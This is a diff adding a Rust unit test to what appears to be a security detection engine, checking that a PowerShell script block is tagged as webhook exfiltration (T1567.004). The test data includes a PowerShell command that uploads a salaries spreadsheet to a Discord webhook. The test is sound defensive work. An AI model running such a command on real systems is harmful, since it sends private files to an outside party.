@@ -143,3 +143,31 @@ fn downloads_and_other_events_raise_nothing() {
     }]);
     assert!(run(&network).is_empty());
 }
+
+#[test]
+fn a_powershell_script_block_that_posts_a_file_to_a_webhook() {
+    let mut ev = process_event(
+        "windows",
+        &[(
+            "ScriptBlockText",
+            "$f = Get-Item 'C:\\Users\\d\\salaries.xlsx'\nInvoke-RestMethod -Uri 'https://discord.com/api/webhooks/1/abc' -Method Post -InFile $f.FullName",
+        )],
+    );
+    ev.logsources = Arc::from(vec![LogSource {
+        product: Some(Arc::from("windows")),
+        category: Some(Arc::from("ps_script")),
+        service: Some(Arc::from("powershell")),
+    }]);
+    let found = run(&ev);
+    assert_eq!(found.len(), 1, "{found:?}");
+    assert_eq!(found[0].fields["tool"], "powershell");
+    assert_eq!(found[0].attack, ["T1567.004"], "{:?}", found[0].fields);
+    // A script that only downloads raises nothing.
+    let mut dl = ev.clone();
+    dl.fields.clear();
+    dl.push_str(
+        Arc::from("ScriptBlockText"),
+        "Invoke-WebRequest -Uri https://example.com/a.zip -OutFile a.zip",
+    );
+    assert!(run(&dl).is_empty());
+}
